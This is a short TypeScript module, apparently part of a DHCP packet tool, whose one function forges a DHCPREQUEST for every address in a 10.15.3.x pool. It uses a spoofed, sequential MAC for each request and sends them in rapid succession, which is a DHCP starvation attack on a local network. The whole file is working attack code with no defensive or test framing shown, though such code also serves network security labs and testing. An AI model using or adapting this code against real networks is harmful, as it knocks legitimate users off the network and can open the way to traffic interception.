import { ip, messageType } from './packet.ts';
import type { RawClient } from './raw-client.ts';

const [FIRST, LAST] = [20, 254];
/** Milliseconds from one message to the next: all of them take half a second. */
const APART = 2;

/** Forges one DHCPREQUEST for each address of the pool, each in a name of its own, which all select one gateway. */
export async function claimAll(
  attacker: RawClient,
  gateway: string,
  count = LAST - FIRST + 1,
): Promise<void> {
  for (let number = 0; number < count; number += 1) {
    attacker.send({
      chaddr: `52:54:77:00:00:${number.toString(16).padStart(2, '0')}`,
      options: [messageType('DHCPREQUEST'), [50, ...ip(`10.15.3.${FIRST + number}`)], [54, ...ip(gateway)]],
    });
    await new Promise((resolve) => setTimeout(resolve, APART));
  }
}
